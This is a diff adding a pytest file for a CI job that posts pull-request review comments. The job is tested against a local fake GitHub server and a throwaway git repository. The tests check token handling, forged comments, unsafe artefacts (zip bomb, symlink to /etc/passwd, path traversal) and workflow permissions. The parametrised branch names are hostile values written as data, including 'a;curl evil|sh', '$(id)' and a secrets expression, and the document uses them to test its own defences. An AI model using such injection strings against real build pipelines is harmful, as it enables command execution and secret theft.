@@ -1,0 +1,265 @@
+"""The trusted job: over HTTP against a stand-in for GitHub, and over git against a real repository."""
+
+import io
+import json
+import stat
+import subprocess
+import threading
+import zipfile
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qs, urlsplit
+
+import pytest
+import yaml
+
+from graph.model import Graph
+from review.artefact import ArtefactError, unpacked
+from review.capturing import Captured, HeadError, read_captured
+from review.comment import MARKER
+from review.github import BOT, GitHub, GitHubError
+from review.posting import post
+
+ROOT = Path(__file__).parents[2]
+GRAPH = (ROOT / "api" / "data" / "graphs" / "dev.json").read_text("utf-8")
+WORKFLOWS = ROOT / ".github" / "workflows"
+
+
+def zipped(*members: tuple[str | zipfile.ZipInfo, str]) -> bytes:
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, text in members:
+            archive.writestr(name, text)
+    return data.getvalue()
+
+
+class Stand:
+    """A repository on GitHub: pull requests, one run's artefact, comments."""
+
+    def __init__(self) -> None:
+        self.pulls: list[dict[str, Any]] = []
+        self.artefact: bytes | None = None
+        self.comments: list[dict[str, Any]] = []
+        self.asked: list[tuple[str, str, str]] = []
+
+    def answer(self, method: str, address: str, body: dict[str, Any], token: str) -> tuple[int, Any]:
+        split = urlsplit(address)
+        path = split.path.removeprefix("/repos/o/r/")
+        self.asked.append((method, address, token))
+        if path == "pulls":
+            wanted = parse_qs(split.query)["head"][0]
+            return 200, [one for one in self.pulls if one["label"] == wanted]
+        if path.endswith("/artifacts"):
+            rows = (
+                [{"name": "review-head", "id": 7, "size_in_bytes": len(self.artefact)}]
+                if self.artefact
+                else []
+            )
+            return 200, {"artifacts": rows}
+        if path == "actions/artifacts/7/zip":
+            return 302, "/elsewhere/7"
+        if split.path == "/elsewhere/7":
+            return 200, self.artefact
+        if path.endswith("/comments") and method == "POST":
+            self.comments.append({"id": 1, "user": {"login": BOT}, "body": body["body"], "html_url": "u"})
+            return 201, self.comments[-1]
+        if path.endswith("/comments"):
+            return 200, self.comments
+        if path.startswith("issues/comments/") and method == "PATCH":
+            self.comments[-1]["body"] = body["body"]
+            return 200, self.comments[-1]
+        return 404, {}
+
+
+@pytest.fixture
+def stand() -> Iterator[tuple[Stand, GitHub]]:
+    state = Stand()
+
+    class Handler(BaseHTTPRequestHandler):
+        def handle_one(self) -> None:
+            length = int(self.headers.get("Content-Length") or 0)
+            body = json.loads(self.rfile.read(length) or b"{}")
+            code, found = state.answer(self.command, self.path, body, self.headers.get("Authorization", ""))
+            data = found if isinstance(found, bytes) else json.dumps(found).encode()
+            self.send_response(code)
+            if code == 302:
+                self.send_header("Location", f"http://127.0.0.1:{server.server_port}{found}")
+            self.send_header("Content-Length", str(len(data)))
+            self.end_headers()
+            self.wfile.write(data)
+
+        do_GET = do_POST = do_PATCH = handle_one  # noqa: N815
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield state, GitHub("o/r", "t0ken", f"http://127.0.0.1:{server.server_port}")
+    server.shutdown()
+    server.server_close()
+
+
+def git(folder: Path, *arguments: str) -> str:
+    who = ["-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false"]
+    done = subprocess.run(
+        ["git", "-C", str(folder), *who, *arguments], capture_output=True, text=True, check=True
+    )
+    return done.stdout.strip()
+
+
+@pytest.fixture
+def clone(tmp_path: Path) -> tuple[Path, str, str]:
+    """A clone, its base commit, and the head of pull request 5, which the clone hasn't fetched yet."""
+    origin, here = tmp_path / "origin", tmp_path / "clone"
+    (origin / "api" / "data" / "graphs").mkdir(parents=True)
+    git(origin, "init", "-q", "-b", "main")
+    (origin / "api" / "data" / "graphs" / "dev.json").write_text(GRAPH, "utf-8")
+    git(origin, "add", "-A")
+    git(origin, "commit", "-qm", "base")
+    base = git(origin, "rev-parse", "HEAD")
+    git(tmp_path, "clone", "-q", str(origin), str(here))
+    git(origin, "switch", "-qc", "change")
+    (origin / "note.md").write_text("@everyone <img src=x>\n", "utf-8")
+    git(origin, "add", "-A")
+    git(origin, "commit", "-qm", "head")
+    head = git(origin, "rev-parse", "HEAD")
+    git(origin, "update-ref", "refs/pull/5/head", head)
+    git(origin, "switch", "-q", "main")
+    return here, base, head
+
+
+def event(head: str, branch: str = "change") -> dict[str, Any]:
+    return {
+        "workflow_run": {
+            "id": 3,
+            "head_sha": head,
+            "head_branch": branch,
+            "head_repository": {"id": 9, "owner": {"login": "x"}},
+        }
+    }
+
+
+def pull(head: str, base: str, branch: str = "change") -> dict[str, Any]:
+    return {
+        "number": 5,
+        "label": f"x:{branch}",
+        "head": {"sha": head, "repo": {"id": 9}},
+        "base": {"sha": base},
+    }
+
+
+def artefact(change: str = "", to: str = "") -> bytes:
+    graph = Graph.from_json(GRAPH.replace(change, to) if change else GRAPH)
+    return zipped(("head.json", Captured({"dev": graph}, {"dev": {}}, {}).to_json()))
+
+
+def test_one_comment_is_written_and_then_edited(
+    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str]
+) -> None:
+    state, github = stand
+    here, base, head = clone
+    state.pulls, state.artefact = [pull(head, base)], artefact('"hashKey": "pk"', '"hashKey": "sk"')
+    state.comments = [{"id": 2, "user": {"login": "stranger"}, "body": f"{MARKER} forged", "html_url": "no"}]
+    assert post(event(head), github, here) == "u"
+    assert post(event(head), github, here) == "u"
+    (text,) = [one["body"] for one in state.comments if one["user"]["login"] == BOT]
+    assert "🔴 **Data**: `safeguards-table` is replaced" in text
+    assert "the committed graph isn't what the program makes" in text
+    assert state.comments[0]["body"].endswith("forged"), "a stranger's comment was edited"
+
+
+def test_the_token_doesnt_follow_a_redirect(
+    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str]
+) -> None:
+    state, github = stand
+    here, base, head = clone
+    state.pulls, state.artefact = [pull(head, base)], artefact()
+    post(event(head), github, here)
+    assert {token for _, address, token in state.asked if address.startswith("/elsewhere")} == {""}
+
+
+@pytest.mark.parametrize(
+    "branch", ["a;curl evil|sh", "$(id)", "${{ secrets.X }}", "--upload-pack=x", "a&state=all", "\u202ex"]
+)
+def test_a_branch_name_is_only_ever_data(
+    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str], branch: str
+) -> None:
+    state, github = stand
+    here, base, head = clone
+    state.pulls, state.artefact = [pull(head, base, branch)], artefact()
+    assert post(event(head, branch), github, here) == "u"
+
+
+def test_a_forged_or_older_commit_gets_no_comment(
+    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str]
+) -> None:
+    state, github = stand
+    here, base, head = clone
+    state.pulls, state.artefact = [pull(head, base)], artefact()
+    assert post(event("0" * 40), github, here) == ""
+    with pytest.raises(GitHubError):
+        post(event("main; id"), github, here)
+    state.pulls = [pull("1" * 40, base)]
+    with pytest.raises(GitHubError, match="moved on"):
+        post(event("1" * 40), github, here)
+    assert state.comments == []
+
+
+BOMB = zipped(("head.json", "0" * 30_000_000))
+LINK = zipfile.ZipInfo("head.json")
+LINK.external_attr = (stat.S_IFLNK | 0o777) << 16
+
+
+NO_ARTEFACTS = {
+    "empty": b"",
+    "no zip": b"no zip",
+    "bomb": BOMB,
+    "link": zipped((LINK, "/etc/passwd")),
+    "parent": zipped(("../head.json", "{}")),
+    "two": zipped(("head.json", "{}"), ("x", "")),
+    "absolute": zipped(("/head.json", "{}")),
+}
+NO_HEADS = {
+    "empty": "",
+    "a list": "[]",
+    "nothing": "{}",
+    "another schema": '{"schema": "x"}',
+    "deep": "[" * 100_000,
+    "a path": Captured({"dev": Graph.from_json(GRAPH)}, {}, {}).to_json().replace('"dev"', '"../x"', 1),
+}
+
+
+@pytest.mark.parametrize("data", NO_ARTEFACTS.values(), ids=NO_ARTEFACTS)
+def test_an_artefact_that_isnt_one_plain_file_is_refused(data: bytes) -> None:
+    with pytest.raises(ArtefactError):
+        unpacked(data)
+
+
+@pytest.mark.parametrize("text", NO_HEADS.values(), ids=NO_HEADS)
+def test_a_head_that_isnt_what_capture_writes_is_refused(text: str) -> None:
+    with pytest.raises(HeadError):
+        read_captured(text)
+
+
+def test_what_the_job_could_not_make_is_said(
+    stand: tuple[Stand, GitHub], clone: tuple[Path, str, str]
+) -> None:
+    state, github = stand
+    here, base, head = clone
+    state.pulls, state.artefact = [pull(head, base)], b"no zip"
+    post(event(head), github, here)
+    assert "there is no graph of the head" in state.comments[0]["body"]
+
+
+def test_no_workflow_that_strangers_start_has_a_right_or_a_secret() -> None:
+    untrusted = yaml.safe_load((WORKFLOWS / "review.yml").read_text("utf-8"))
+    trusted = (WORKFLOWS / "review-comment.yml").read_text("utf-8")
+    assert untrusted["permissions"] == {}
+    assert [job["permissions"] for job in untrusted["jobs"].values()] == [{"contents": "read"}]
+    assert "secrets" not in (WORKFLOWS / "review.yml").read_text("utf-8")
+    for step in yaml.safe_load(trusted)["jobs"]["comment"]["steps"]:
+        assert "${{" not in step.get("run", ""), "an expression becomes part of a command"
+        assert "ref" not in step.get("with", {}), "the trusted job checks a change out"
